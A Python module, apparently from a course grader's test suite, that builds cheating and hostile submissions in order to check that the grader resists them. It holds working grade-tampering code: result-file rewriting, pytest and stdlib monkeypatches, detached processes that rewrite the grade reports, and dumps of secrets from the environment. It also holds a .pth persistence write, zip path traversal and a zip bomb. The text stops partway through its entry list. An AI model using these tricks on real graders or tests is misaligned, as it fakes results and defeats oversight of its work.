"""Cheating and hostile submissions for `dia3 grade` (issue #9) — data and builders, no test.

Each entry builds one submission (a folder, or a .zip) under a base folder, the way ``turma.py``
builds the class: from the untouched scaffold (what the learner received, which scores 0) or from
the reference solution, plus the trick. What the grader must do with it:

- ``expect="zero"``      a cheat: whatever it does, its grade is 0 (and the phrase appears in its
                         status or reason, when the grader can tell why);
- ``expect="turma_ok"``  hostile input, not dishonest: the batch finishes, every *other* submission
                         gets the grade it would get alone, nothing outside the scratch folder
                         changes, no process is left behind (the phrase appears in its status or
                         reason).
- ``grade=(status, nota)`` a hostile entry whose result does not depend on the machine: what it must
                         get, as it would alone (``detail``: a piece of the reason, the files left
                         out). A trick in the files, the name or the processes is built on
                         ``partial_files()`` (cheap to grade, neither 0 nor 100), and its nota is
                         ``LIKE_PARTIAL``: what the same files get with no trick (``CONTROL_PARTIAL``).
                         (``phrase`` is an opinion only: no test holds an entry to it.)

The author's first set (``AUTHOR_CHEATS``, for tests/test_cheats.py) sits at the end; the suite grades
every entry, the control and that set as one class (``hostile_class`` in tests/conftest.py).

Everything here is bounded so it can run on a shared 2-core machine: detached processes exit by
themselves after ``LIFETIME`` seconds and carry ``MARKER`` in their command line (``kill_leftovers``
ends them by pid); big files are sparse; the memory hog maps 500 MB at a time (untouched) up to a limit you
choose; the "fork bomb" is 50 sleeping children. ``cleanup(base)`` removes what the builders made.

    python tests/corpus_cheats.py /tmp/turma-hostil [id ...]   # build some by hand

The learner-facing text (comments inside the submissions) is in pt-BR, like a real learner's.
"""

from __future__ import annotations

import os
import shutil
import signal
import sys
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))

LIKE_PARTIAL = "como controle_parcial"  # Entry.grade's score: whatever CONTROL_PARTIAL gets (0 < it < 100)
MARKER = "dia3-corpus-cheat-7f3a"  # in the argv of every process a submission leaves behind
LIFETIME = 120  # seconds: no process started by a submission here lives longer than this
# (so a detached rewriter only shows its effect when the batch ends within LIFETIME of its import:
# grade processo_desacoplado in a small class, or raise LIFETIME for a long one)
FUTURE = "from __future__ import annotations\n"
CHECK_PROMPT = "Explique SSE em 3 bullets"  # the prompt the checks send (a lookup table keys on it)


@dataclass
class Entry:
    id: str
    kind: str  # "cheat" | "hostile"
    about: str
    build: Callable[[Path], Path]  # build(base) -> the submission (folder or .zip) it created under base
    expect: str  # "zero" | "turma_ok"
    phrase: str = ""  # a piece of the status or reason the grader should give ("" = no opinion)
    steps: str = "template,ex01"  # the steps the trick is aimed at
    leaves_processes: bool = False  # run kill_leftovers() after grading it
    today: str = ""  # what the grader of the day did with it (filled by hand after a run)
    # for a hostile entry whose result does not depend on the machine: the (status, grade) it must
    # get, as it would alone, and a piece of its detail (the files the grader left out, say)
    grade: tuple[str, float | str | None] | None = None  # (None: any grade; LIKE_PARTIAL: controle_parcial's)
    detail: str = ""


# ---------------------------------------------------------------------------------------------
# Building blocks
# ---------------------------------------------------------------------------------------------


def scaffold_files(level: int = 2) -> dict[str, str]:
    """The untouched learner files (relative path → text): what a learner who did nothing hands in."""
    from dia3 import scaffold

    return {path.relative_to(REPO).as_posix(): text for path, text in scaffold.generate(level=level).items()}


def solution_files() -> dict[str, str]:
    files = {"template.py": (REPO / "solutions" / "template.py").read_text(encoding="utf-8")}
    for path in sorted((REPO / "solutions").glob("ex*.py")):
        files[f"exercises/{path.name}"] = path.read_text(encoding="utf-8")
    return files


def partial_files() -> dict[str, str]:
    """The solution's exercises and the untouched template.py: a learner who did the exercises but
    not the capstone. Grading it is cheap (the template's checks stop at its pending TODOs) and its
    grade is neither 0 nor 100, so a trick that costs an honest submission anything shows: the base
    of the hostile entries whose trick is in the files, the name or the processes, not in the code."""
    return {**solution_files(), "template.py": scaffold_files()["template.py"]}


def write_files(folder: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_text(text, encoding="utf-8")
    return folder


def at_import(source: str, code: str) -> str:
    """``code`` runs at import, right after ``from __future__`` (which must stay first)."""
    head, tail = source.split(FUTURE, 1)
    return head + FUTURE + textwrap.dedent(code) + "\n" + tail


def at_end(source: str, code: str) -> str:
    """``code`` runs after the module body (it can replace the functions the module defined)."""
    return source + "\n\n" + textwrap.dedent(code) + "\n"


def everywhere(files: dict[str, str], trick: Callable[[str], str]) -> dict[str, str]:
    """Apply ``trick`` to template.py and to every exercise: whichever the grader imports first."""
    return {rel: trick(text) if rel.endswith(".py") else text for rel, text in files.items()}


def _submission(base: Path, name: str, files: dict[str, str]) -> Path:
    return write_files(base / name, files)


# The ids of every check and its step, read by the cheat from the kit it runs inside (the same
# table the grader weighs with): a fake "all passed" result file needs them.
_ALL_PASSED = '''
def _dia3_all_passed():
    from dia3 import exercises
    return [{"id": cid, "step": w["passo"], "passed": True,
             "message": "", "seconds": 0.1} for cid, w in exercises.weights().items()]


def _dia3_result_paths():
    import sys
    paths = []
    argv = list(sys.argv)
    for i, arg in enumerate(argv):
        for flag in ("--json-file", "--dia3-json", "--json-out", "--result", "--out"):
            if arg == flag and i + 1 < len(argv):
                paths.append(argv[i + 1])
            elif arg.startswith(flag + "="):
                paths.append(arg.split("=", 1)[1])
    return paths
'''


def _fix_steps_snippet() -> str:
    # the weights say "passo = ex01_geradores" etc.; records say step "ex01_geradores" too.
    return _ALL_PASSED


# ---------------------------------------------------------------------------------------------
# Cheats: each one must end with grade 0
# ---------------------------------------------------------------------------------------------


def build_os_exit_import(base: Path) -> Path:
    files = everywhere(scaffold_files(), lambda s: at_import(s, "import os\nos._exit(0)  # sai 'com sucesso' antes de tudo\n"))
    return _submission(base, "cola_os_exit_no_import", files)


def build_os_exit_in_function(base: Path) -> Path:
    trick = '''
    import os as _os


    def _sai_com_zero(*args, **kwargs):
        _os._exit(0)  # a verificação chama, o processo some com código 0


    for _nome in ("format_sse", "authenticate_user", "count", "collect", "take", "stream_llm"):
        if _nome in globals():
            globals()[_nome] = _sai_com_zero
    '''
    return _submission(base, "cola_os_exit_na_funcao", everywhere(scaffold_files(), lambda s: at_end(s, trick)))


def build_writes_result_file(base: Path) -> Path:
    trick = _fix_steps_snippet() + '''
import json as _json, os as _os
for _path in _dia3_result_paths():
    try:
        open(_path, "w", encoding="utf-8").write(_json.dumps(_dia3_all_passed()))
    except OSError:
        pass
if _dia3_result_paths():
    _os._exit(0)  # ninguém sobrescreve o "resultado" que eu escrevi
'''
    return _submission(base, "cola_grava_o_json_do_resultado", everywhere(scaffold_files(), lambda s: at_import(s, trick)))


def build_atexit_rewrites_result(base: Path) -> Path:
    trick = _fix_steps_snippet() + '''
import atexit as _atexit, json as _json


def _reescreve():
    for _path in _dia3_result_paths():
        try:
            open(_path, "w", encoding="utf-8").write(_json.dumps(_dia3_all_passed()))
        except OSError:
            pass


_atexit.register(_reescreve)  # roda depois que o corretor gravou o resultado de verdade
'''
    return _submission(base, "cola_atexit_reescreve_o_json", everywhere(scaffold_files(), lambda s: at_import(s, trick)))


def build_pytest_reports_pass(base: Path) -> Path:
    trick = '''
try:
    import _pytest.reports as _reports

    _reports.BaseReport.passed = property(lambda self: True)  # todo relatório "passou"
    _reports.BaseReport.failed = property(lambda self: False)
except Exception:
    pass
'''
    return _submission(base, "cola_pytest_tudo_passa", everywhere(scaffold_files(), lambda s: at_import(s, trick)))


def build_plugin_records(base: Path) -> Path:
    trick = '''
import sys as _sys

_plugin = _sys.modules.get("dia3.pytest_plugin")
if _plugin is not None and isinstance(getattr(_plugin, "_records", None), list):
    class _SempreVerde(list):
        def append(self, record):
            if isinstance(record, dict):
                record = {**record, "passed": True, "message": ""}
            super().append(record)

    _verde = _SempreVerde()
    for _r in _plugin._records:
        _verde.append(_r)
    _plugin._records = _verde
'''
    return _submission(base, "cola_plugin_do_kit", everywhere(scaffold_files(), lambda s: at_import(s, trick)))


def build_neutralize_fail(base: Path) -> Path:
    trick = '''
import sys as _sys

try:
    import dia3.harness as _harness

    _real_fail = _harness.fail

    def _nada(*args, **kwargs):
        return None

    for _mod in list(_sys.modules.values()):  # cada módulo de verificação importou o seu `fail`
        try:
            if getattr(_mod, "fail", None) is _real_fail:
                _mod.fail = _nada
        except Exception:
            pass
except Exception:
    pass
'''
    return _submission(base, "cola_sys_modules_fail", everywhere(scaffold_files(), lambda s: at_import(s, trick)))


def build_patch_stdlib_json(base: Path) -> Path:
    trick = '''
import json as _json
import pathlib as _pathlib

_dumps = _json.dumps


def _dumps_verde(obj, *args, **kwargs):
    if isinstance(obj, list) and obj and all(isinstance(r, dict) and "passed" in r for r in obj):
        obj = [{**r, "passed": True, "message": ""} for r in obj]
    return _dumps(obj, *args, **kwargs)


_json.dumps = _dumps_verde  # o kit grava o resultado com json.dumps...
_write_text = _pathlib.Path.write_text


def _write_text_verde(self, data, *args, **kwargs):
    if isinstance(data, str) and '"passed": false' in data:
        data = data.replace('"passed": false', '"passed": true')
    return _write_text(self, data, *args, **kwargs)


_pathlib.Path.write_text = _write_text_verde  # ...e com Path.write_text
'''
    return _submission(base, "cola_monkeypatch_json_e_pathlib", everywhere(scaffold_files(), lambda s: at_import(s, trick)))


def build_builtins_patch(base: Path) -> Path:
    trick = '''
import builtins as _builtins

_open = _builtins.open


def _open_verde(file, mode="r", *args, **kwargs):
    handle = _open(file, mode, *args, **kwargs)
    if "w" in str(mode) and str(file).endswith(".json"):
        write = handle.write
        handle.write = lambda data: write(data.replace('"passed": false', '"passed": true') if isinstance(data, str) else data)
    return handle


_builtins.open = _open_verde
'''
    return _submission(base, "cola_builtins_open", everywhere(scaffold_files(), lambda s: at_import(s, trick)))


def build_exec_kit_solution(base: Path) -> Path:
    trick = '''
import pathlib as _pathlib

_me = _pathlib.Path(__file__).resolve()
_candidatos = []
try:
    import dia3 as _dia3

    _candidatos.append(_pathlib.Path(_dia3.__file__).resolve().parent.parent / "solutions" / _me.name)
except Exception:
    pass
_candidatos += [_me.parent / ".." / "solutions" / _me.name, _me.parent / ".." / ".." / "solutions" / _me.name]
for _src in _candidatos:
    if _src.is_file() and _src.resolve() != _me:
        exec(compile(_src.read_text(encoding="utf-8"), str(_src), "exec"), globals())
        break
'''
    return _submission(base, "cola_exec_da_solucao_do_kit", everywhere(scaffold_files(), lambda s: at_end(s, trick)))


def build_copy_classmate(base: Path) -> Path:
    """Two folders: an honest classmate (the solution) and a copier that execs the classmate's file,
    found through the grader's command line (/proc/<ppid>/cmdline names the class folder) or
    through the other scratch folders of the batch."""
    _submission(base, "colega_honesto", solution_files())
    trick = '''
import glob as _glob, os as _os, pathlib as _pathlib, re as _re

_me = _pathlib.Path(__file__).resolve()
_rel = _me.name if _me.name == "template.py" else "exercises/" + _me.name
_achados = []
def _ancestrais():
    _pid = _os.getppid()
    while _pid > 1:
        yield _pid
        _pid = int(open(f"/proc/{_pid}/stat").read().rsplit(")", 1)[1].split()[1])


try:  # algum ancestral (o corretor) recebeu a pasta da turma na linha de comando
    for _pid in _ancestrais():
        for _arg in open(f"/proc/{_pid}/cmdline", "rb").read().split(b"\\0"):
            _p = _pathlib.Path(_os.readlink(f"/proc/{_pid}/cwd")) / _os.fsdecode(_arg)
            if _arg and _p.is_dir():
                _achados += sorted(_p.glob("*/" + _rel))
except Exception:
    pass
_achados += [_pathlib.Path(p) for p in sorted(_glob.glob("/tmp/*/*/" + _rel) + _glob.glob("/tmp/*/*/*/" + _rel))]
for _src in _achados:
    try:
        _texto = _src.read_text(encoding="utf-8")
    except OSError:
        continue
    _pendente = _re.search(r'^\\s*raise NotImplementedError\\("TODO', _texto, _re.M)  # um colega que também não fez
    if _src.resolve() != _me and not _pendente and "_achados" not in _texto:
        exec(compile(_texto, str(_src), "exec"), globals())
        break
'''
    return _submission(base, "cola_copia_do_colega", everywhere(scaffold_files(), lambda s: at_end(s, trick)))


# A detached rewriter: waits for the grader to finish, then rewrites its own row in the reports.
REWRITER = r'''
import csv, json, os, sys, time
marker, name, lifetime = sys.argv[1], sys.argv[2], float(sys.argv[3])
grader_pids = [int(p) for p in sys.argv[4:]]
def cmdline(pid):
    try:
        return [a.decode(errors="replace") for a in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")]
    except OSError:
        return []
out, grader = None, None
for pid in grader_pids:
    args = cmdline(pid)
    for i, a in enumerate(args):
        value = args[i + 1] if a in ("--saida", "--out") and i + 1 < len(args) else (
            a.split("=", 1)[1] if a.startswith(("--saida=", "--out=")) else None)
        if value and out is None:
            out, grader = os.path.join(os.readlink(f"/proc/{pid}/cwd"), value), pid
deadline = time.monotonic() + lifetime
while out and time.monotonic() < deadline:
    time.sleep(0.5)
    path = os.path.join(out, "notas.csv")
    if os.path.exists(f"/proc/{grader}") or not os.path.exists(path):  # wait for the grader to finish
        continue
    time.sleep(1)
    rows = list(csv.reader(open(path, encoding="utf-8")))
    for row in rows[1:]:
        if row and row[0] == name:
            row[1], row[2] = "corrigido", "100.0"
    csv.writer(open(path, "w", newline="", encoding="utf-8")).writerows(rows)
    try:
        data = json.load(open(os.path.join(out, "notas.json"), encoding="utf-8"))
        for s in data.get("alunos", []):
            if s.get("name") == name:
                s["status"], s["score"] = "corrigido", 100.0
        json.dump(data, open(os.path.join(out, "notas.json"), "w", encoding="utf-8"), ensure_ascii=False)
        md = os.path.join(out, "relatorio.md")
        text = open(md, encoding="utf-8").read().replace(f"| {name} |", f"| {name} | corrigido | 100,0 |\n<!-- ", 1)
        open(md, "w", encoding="utf-8").write(text)
    except Exception:
        pass
    break
'''


def _detached_trick(name: str, how: str) -> str:
    launch = {
        "popen": '''
_subprocess.Popen([_sys.executable, "-c", _REWRITER, _MARKER, _NAME, _LIFE, *_pais()], start_new_session=True,
                  stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL, close_fds=True)
''',
        "double_fork": '''
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, [_sys.executable, "-c", _REWRITER, _MARKER, _NAME, _LIFE, *_pais()])
    _os._exit(0)
''',
    }[how]
    return f'''
import os as _os, subprocess as _subprocess, sys as _sys

_REWRITER = {REWRITER!r}
_MARKER, _NAME, _LIFE = {MARKER!r}, {name!r}, {str(LIFETIME)!r}


def _pais():
    pids, pid = [], _os.getpid()
    for _ in range(4):  # o checador, o corretor, quem chamou o corretor...
        try:
            pid = int(open(f"/proc/{{pid}}/stat").read().split(")")[1].split()[1])
        except Exception:
            break
        if pid <= 1:
            break
        pids.append(str(pid))
    return pids


if not _os.environ.get("DIA3_JA_LANCEI"):
    _os.environ["DIA3_JA_LANCEI"] = "1"
{textwrap.indent(launch, "    ")}
'''


def build_detached_popen(base: Path) -> Path:
    name = "cola_processo_desacoplado"
    return _submission(base, name, everywhere(scaffold_files(), lambda s: at_import(s, _detached_trick(name, "popen"))))


def build_detached_double_fork(base: Path) -> Path:
    name = "cola_fork_duplo"
    return _submission(base, name, everywhere(scaffold_files(), lambda s: at_import(s, _detached_trick(name, "double_fork"))))


def _lookup_ex06() -> str:
    from dia3.mockllm import reply_text, reply_tokens
    from dia3.pytest_plugin import CHECK_DEFAULT_MODEL

    table = {(CHECK_PROMPT, m): reply_tokens(CHECK_PROMPT, m) for m in (CHECK_DEFAULT_MODEL, "modelo-pedido")}
    return f'''
import asyncio as _asyncio

_TABELA = {table!r}
_TEXTO = {reply_text(CHECK_PROMPT, CHECK_DEFAULT_MODEL)!r}


async def stream_llm(prompt, model=None):
    for token in _TABELA.get((prompt, model or {CHECK_DEFAULT_MODEL!r}), ["..."]):
        await _asyncio.sleep(0)
        yield token


async def ask_llm(prompt, model=None):
    return _TEXTO if prompt == {CHECK_PROMPT!r} else "..."
'''


def build_lookup_table(base: Path) -> Path:
    """Answers the checks' known inputs with canned outputs (computed from the kit's mock, pasted as
    literals) and never calls a model. ex06 is where the checks have no other witness."""
    files = scaffold_files()
    rel = "exercises/ex06_langchain.py"
    files[rel] = at_end(files[rel], _lookup_ex06())
    return _submission(base, "cola_tabela_de_respostas", files)


def build_reads_env(base: Path) -> Path:
    """Prints the environment it runs in (secrets included, if any reached it) and fails at import:
    the output tail ends up in the grader's detail. Nothing real may leak into the reports."""
    trick = '''
import os as _os

print({k: v for k, v in _os.environ.items() if any(w in k for w in ("KEY", "SECRET", "TOKEN", "PASS", "HOME", "PATH"))})
raise RuntimeError("olha o ambiente do corretor aí em cima")
'''
    return _submission(base, "cola_le_o_ambiente", everywhere(scaffold_files(), lambda s: at_import(s, trick)))


def build_writes_into_the_kit(base: Path) -> Path:
    """Leaves files where the next judge would run them: a .pth in site-packages (Python runs its
    lines at every start), a .pyc in the kit's __pycache__, a module renamed into the kit, a folder
    in checks/. Each file is new and named with MARKER (never one of the kit's own), and harmless:
    the .pth holds only a comment."""
    trick = f'''
import os as _os, site as _site
import dia3 as _dia3

_kit = _os.path.dirname(_dia3.__file__)
_tentativas = [
    (_os.path.join(_site.getsitepackages()[0], "{MARKER}.pth"), "# so um comentario\\n"),
    (_os.path.join(_kit, "__pycache__", "{MARKER}.cpython-311.pyc"), "não é bytecode"),
]
for _caminho, _texto in _tentativas:
    try:
        with open(_caminho, "w") as _fh:
            _fh.write(_texto)
    except OSError as _exc:
        print("não deu:", _exc)
try:
    with open("{MARKER}-meu.py", "w") as _fh:
        _fh.write("x = 1\\n")
    _os.rename("{MARKER}-meu.py", _os.path.join(_kit, "{MARKER}-renomeado.py"))
except OSError as _exc:
    print("não deu:", _exc)
try:
    _os.mkdir(_os.path.join(_os.path.dirname(_kit), "checks", "{MARKER}-pasta"))
except OSError as _exc:
    print("não deu:", _exc)
'''
    return _submission(base, "cola_escreve_no_kit", everywhere(scaffold_files(), lambda s: at_import(s, trick)))


# ---------------------------------------------------------------------------------------------
# Hostile (not dishonest): the batch must go on
# ---------------------------------------------------------------------------------------------


def build_sigterm_ignored(base: Path) -> Path:
    trick = '''
import signal as _signal, time as _time

_signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)
_fim = _time.monotonic() + %d
while _time.monotonic() < _fim:  # "não me mate"
    _time.sleep(0.5)
''' % LIFETIME
    return _submission(base, "hostil_ignora_sigterm", everywhere(scaffold_files(), lambda s: at_import(s, trick)))


def build_thread_keeps_running(base: Path) -> Path:
    """A correct solution that also starts a non-daemon thread: the interpreter cannot exit."""
    trick = '''
import threading as _threading, time as _time


def _vigia():
    fim = _time.monotonic() + %d
    while _time.monotonic() < fim:
        _time.sleep(0.5)


_threading.Thread(target=_vigia, name="vigia", daemon=False).start()
''' % LIFETIME
    files = partial_files()
    files["template.py"] = at_import(files["template.py"], trick)
    return _submission(base, "hostil_thread_que_nao_para", files)


def build_spin_without_await(base: Path) -> Path:
    """A loop with no await in the streaming code: the first stream holds the event loop for good,
    and so does every stream after it, until the class's time budget ends the submission. The loop
    sleeps instead of spinning: the event loop is just as frozen (the judge counts the loop's own
    hold, asleep or on the CPU), and the class does not burn a core for its whole budget. A loop
    that spins is judged check by check in test_capstone_checks.py and test_cheats.py.

    Named to come first in the class (the grader takes submissions by name): its lane waits out the
    budget while the other lane grades the cheap entries, and hostil_ignora_sigterm (which waits out
    the import's limit) comes up after it. Side by side, the two waits left both lanes asleep and a
    core idle for ~15 s of the suite."""
    files = solution_files()
    files["template.py"] = files["template.py"].replace("import logging\n", "import logging\nimport time\n", 1).replace(
        "    llm = ChatOpenAI(model=model or DEFAULT_MODEL, streaming=True)\n    # aclosing",
        "    while True:  # espera o modelo \"ficar pronto\" (sem await: o event loop nunca mais roda)\n        time.sleep(0.5)\n"
        "    llm = ChatOpenAI(model=model or DEFAULT_MODEL, streaming=True)\n    # aclosing", 1)
    return _submission(base, "_hostil_laco_sem_await", files)


def build_bounded_fork(base: Path, children: int = 50) -> Path:
    trick = f'''
import subprocess as _subprocess, sys as _sys

for _ in range({children}):  # 50 filhos dormindo (um fork bomb com freio)
    _subprocess.Popen([_sys.executable, "-c", "import time; time.sleep({LIFETIME})", {MARKER!r}],
                      stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
'''
    files = solution_files()
    files["template.py"] = at_import(files["template.py"], trick)
    return _submission(base, "hostil_cinquenta_filhos", files)


def build_memory_hog(base: Path, limit_mb: int = 16000, step_mb: int = 500) -> Path:
    """Takes memory 500 MB at a time up to 16 GB, then sleeps. Under the grader's cap (RLIMIT_AS: 3 GB
    of address space per subject) its import fails at once, "Cannot allocate memory"; with no cap it
    would sleep until the import's time limit, and the test would see that. The blocks are mapped,
    not touched: touching 3 GB cost each grade of the class ~4 s of a core, and if the cap were
    missing, the machine would not pay for it."""
    trick = f'''
import mmap as _mmap, time as _time

_pilha = []
for _ in range({limit_mb // step_mb}):
    _pilha.append(_mmap.mmap(-1, {step_mb} * 1024 * 1024, flags=_mmap.MAP_PRIVATE | _mmap.MAP_ANONYMOUS))
_time.sleep({LIFETIME})
'''
    files = solution_files()
    files["template.py"] = at_import(files["template.py"], trick)
    return _submission(base, "hostil_come_memoria", files)


def build_hostile_text(base: Path) -> Path:
    """Lone surrogates, NUL, ANSI escapes and invalid UTF-8 in what it prints and in its exception."""
    trick = r'''
import sys as _sys

_sys.stdout.buffer.write(b"\xff\xfe\x00\x1b[2J\x1b]0;pwned\x07 bytes soltos\n")
_sys.stdout.flush()
print("surrogate: \udcff \ud800 nul: \x00 esc: \x1b[31mvermelho\x1b[0m fim", flush=True)
raise RuntimeError("falhei \udcff\ud800\x00\x1b[2J\u202e<- texto invertido")
'''
    files = solution_files()
    files["template.py"] = at_import(files["template.py"], trick)
    return _submission(base, "hostil_texto_esquisito", files)


def build_symlink(base: Path, name: str, target: str, rel: str = "exercises/dados.bin") -> Path:
    folder = _submission(base, name, partial_files())
    (folder / rel).parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, folder / rel)
    return folder


def build_symlink_urandom(base: Path) -> Path:
    return build_symlink(base, "hostil_link_urandom", "/dev/urandom")


def build_symlink_zero(base: Path) -> Path:
    return build_symlink(base, "hostil_link_zero", "/dev/zero")


def build_symlink_passwd(base: Path) -> Path:
    """A link to a file outside the submission (here /etc/passwd): it must not be copied in."""
    return build_symlink(base, "hostil_link_passwd", "/etc/passwd", rel="senhas.txt")


def build_non_utf8_name(base: Path) -> Path:
    """A correct submission in a folder whose name is not valid UTF-8 (b'aluno_\\xff')."""
    raw = os.fsencode(base) + b"/aluno_\xff"
    os.makedirs(raw, exist_ok=True)
    folder = Path(os.fsdecode(raw))
    return write_files(folder, partial_files())


def build_huge_sparse_file(base: Path, size: int = 5 * 1024**3) -> Path:
    """A correct submission with a 5 GB sparse file (no disk used): the grader must not copy it whole."""
    folder = _submission(base, "hostil_arquivo_enorme", partial_files())
    with open(folder / "dados.bin", "wb") as fh:
        fh.truncate(size)
    return folder


def build_many_files(base: Path, count: int = 5000) -> Path:
    folder = _submission(base, "hostil_milhares_de_arquivos", solution_files())
    lixo = folder / "lixo"
    lixo.mkdir()
    for i in range(count):
        (lixo / f"f{i:05d}.txt").write_bytes(b"x")
    return folder


def build_bad_dia3_state(base: Path) -> Path:
    folder = _submission(base, "hostil_dia3_malformado", partial_files())
    (folder / ".dia3").mkdir()
    (folder / ".dia3" / "progresso.json").write_bytes(b'{"ex01": [\xff\x00 isto n\xe3o \xe9 json')
    (folder / "exercises" / ".dia3").write_bytes(b"\x00" * 10)  # and a file where a folder is expected
    return folder


def build_zip_traversal(base: Path) -> Path:
    """A .zip whose entries try to escape: '../../x', an absolute path, and a link-like name."""
    path = base / "hostil_zip_escapa.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for rel, text in partial_files().items():
            archive.writestr(f"hostil_zip_escapa/{rel}", text)
        archive.writestr(f"../../{MARKER}-traversal.txt", "escapei da pasta temporária\n")
        archive.writestr(f"/tmp/{MARKER}-absoluto.txt", "caminho absoluto\n")
        archive.writestr(f"hostil_zip_escapa/../../../{MARKER}-traversal2.txt", "de novo\n")
        archive.writestr("../" * 12 + f"tmp/{MARKER}-raiz.txt", "subi até a raiz\n")
    return path


def build_zip_bomb(base: Path, expanded_mb: int = 1024) -> Path:
    """A small .zip (~5 MB per GB) that expands to ``expanded_mb`` of zeros next to a correct solution.
    (Level 1: zeros shrink 200× at any level, and level 9 took 5 s of CPU to build one.)"""
    path = base / "hostil_zip_bomba.zip"
    chunk = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for rel, text in solution_files().items():
            archive.writestr(f"hostil_zip_bomba/{rel}", text)
        with archive.open("hostil_zip_bomba/zeros.bin", "w", force_zip64=True) as fh:
            for _ in range(expanded_mb):
                fh.write(chunk)
    return path


def build_honest_reference(base: Path) -> Path:
    """The control: a correct submission, to see that the batch around the hostile ones is unharmed."""
    return _submission(base, "controle_correta", solution_files())


def build_partial_reference(base: Path) -> Path:
    """The second control: ``partial_files()`` with no trick, the grade its hostile entries must get."""
    return _submission(base, "controle_parcial", partial_files())


# ---------------------------------------------------------------------------------------------
# The list
# ---------------------------------------------------------------------------------------------

E = Entry
ENTRIES = [
    # cheats: grade 0
    E("os_exit_no_import", "cheat", "os._exit(0) na importação (código de saída 'sucesso', nenhum resultado)",
      build_os_exit_import, "zero", "os._exit",
      today='processo_morreu, 0'),
    E("os_exit_na_funcao", "cheat", "as funções que as verificações chamam viram os._exit(0)",
      build_os_exit_in_function, "zero", "os._exit",
      today='processo_morreu, 0'),
    E("grava_o_json_do_resultado", "cheat", "escreve 'tudo passou' no arquivo de resultado cujo caminho está no sys.argv e sai",
      build_writes_result_file, "zero", "resultado",
      today='corrigido, 100 (COLA FUNCIONA)'),
    E("atexit_reescreve_o_json", "cheat", "atexit reescreve o arquivo de resultado depois que o kit o gravou",
      build_atexit_rewrites_result, "zero", "resultado",
      today='corrigido, 100 (COLA FUNCIONA)'),
    E("pytest_tudo_passa", "cheat", "troca BaseReport.passed do _pytest por True",
      build_pytest_reports_pass, "zero", "",
      today='corrigido, 100 (COLA FUNCIONA)'),
    E("plugin_do_kit", "cheat", "troca dia3.pytest_plugin._records por uma lista que marca tudo como passou",
      build_plugin_records, "zero", "",
      today='corrigido, 100 (COLA FUNCIONA)'),
    E("sys_modules_fail", "cheat", "procura em sys.modules cada módulo com o `fail` do kit e o troca por um no-op",
      build_neutralize_fail, "zero", "",
      today='corrigido, 72 (COLA FUNCIONA em parte)'),
    E("monkeypatch_json_e_pathlib", "cheat", "json.dumps e Path.write_text trocam 'passed: false' por true",
      build_patch_stdlib_json, "zero", "",
      today='corrigido, 100 (COLA FUNCIONA)'),
    E("builtins_open", "cheat", "builtins.open troca 'passed: false' por true em todo .json gravado",
      build_builtins_patch, "zero", "",
      today='corrigido, 0 (o kit grava com Path.write_text, não com open)'),
    E("exec_da_solucao_do_kit", "cheat", "acha solutions/<arquivo>.py pelo caminho do pacote dia3 (ou ../solutions) e o executa",
      build_exec_kit_solution, "zero", "solução",
      today='corrigido, 92 (COLA FUNCIONA)'),
    E("copia_do_colega", "cheat", "acha a pasta da turma pela linha de comando do corretor e executa o arquivo de um colega",
      build_copy_classmate, "zero", "",
      today='corrigido, 92 (COLA FUNCIONA: achou a turma pelo /proc do corretor)'),
    E("processo_desacoplado", "cheat", "Popen(start_new_session=True) que reescreve notas.csv/json/relatorio.md depois do fim",
      build_detached_popen, "zero", "", leaves_processes=True,
      today='corrigido, 0 no fim do grade; 100 no notas.csv segundos depois (COLA FUNCIONA)'),
    E("fork_duplo", "cheat", "fork duplo + setsid com o mesmo reescritor das notas",
      build_detached_double_fork, "zero", "", leaves_processes=True,
      today='corrigido, 0 (esta variante não reescreveu; inconclusivo)'),
    E("tabela_de_respostas", "cheat", "ex06 responde às entradas conhecidas das verificações com saídas coladas, sem chamar o modelo",
      build_lookup_table, "zero", "", steps="ex06",
      today='não medido'),
    E("le_o_ambiente", "cheat", "imprime as variáveis do ambiente do corretor (segredos?) e falha: a saída vai para o relatório",
      build_reads_env, "zero", "",
      today='nao_importa, 0; nada do ambiente nos relatórios'),
    E("escreve_no_kit", "cheat", "grava um .pth no site-packages, um .pyc no __pycache__ do kit, renomeia um módulo para dentro do kit",
      build_writes_into_the_kit, "zero", "",
      today='as quatro escritas passavam pela guarda (o site-packages e o kit eram "do sistema", e o destino de um rename não era olhado)'),
    # hostile: the batch goes on
    E("ignora_sigterm", "hostile", "ignora SIGTERM/SIGINT e dorme na importação",
      build_sigterm_ignored, "turma_ok", "tempo",
      today='nao_importa, 0 (timeout do pytest na importação, 44 s); turma segue'),
    E("thread_que_nao_para", "hostile", "solução certa + uma thread não-daemon que não termina (o interpretador não sai)",
      build_thread_keeps_running, "turma_ok", "", leaves_processes=False, grade=("corrigido", LIKE_PARTIAL),
      today='tempo_esgotado, 0 (solução certa perde tudo: o interpretador não sai)'),
    E("laco_sem_await", "hostile", "while True com time.sleep dentro do código async (o event loop nunca mais roda)",
      build_spin_without_await, "turma_ok", "tempo", grade=("tempo_esgotado", None), detail="passou de",
      today='tempo_esgotado, 0 (60 s); turma segue'),
    E("cinquenta_filhos", "hostile", "50 processos filhos dormindo (fork bomb com freio)",
      build_bounded_fork, "turma_ok", "", leaves_processes=True,
      today='corrigido, 100; 150 filhos sobreviveram ao corretor (3 importações × 50)'),
    E("come_memoria", "hostile", "pede 500 MB por vez até 16 GB e dorme: precisa de um limite de memória",
      build_memory_hog, "turma_ok", "memória", grade=("nao_importa", None), detail="Cannot allocate memory",
      today='nao_importa (MemoryError só por causa do ulimit -v do shell); o corretor não tem limite'),
